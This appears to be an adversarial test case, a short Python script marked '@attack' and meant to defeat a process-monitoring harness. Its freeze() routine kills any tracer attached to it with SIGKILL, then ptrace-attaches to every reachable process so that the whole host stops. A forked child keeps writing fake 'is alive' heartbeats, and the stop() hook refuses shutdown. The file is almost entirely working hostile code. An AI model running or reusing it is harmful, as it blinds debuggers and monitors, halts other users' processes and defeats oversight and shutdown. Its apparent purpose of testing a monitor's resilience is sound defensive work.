# @attack  kills its recorder, then traces and stops every process that it may, so that none is seen to live or to die
# @expect  zero
import ctypes
import glob
import os
import signal

ATTACH = 16


def freeze():
    tracer = int(open("/proc/self/status").read().partition("TracerPid:")[2].split()[0])
    if tracer:
        os.kill(tracer, signal.SIGKILL)
    libc = ctypes.CDLL(None)
    for path in glob.glob("/proc/[0-9]*"):
        pid = int(os.path.basename(path))
        if pid != os.getpid():
            libc.ptrace(ATTACH, pid, 0, 0)


def run(path, interval, work):
    if os.fork() == 0:
        freeze()
        while True:
            with open(path, "a") as file:
                file.write("is alive\n")
    freeze()
    work()


def stop(process):
    freeze()
    return False
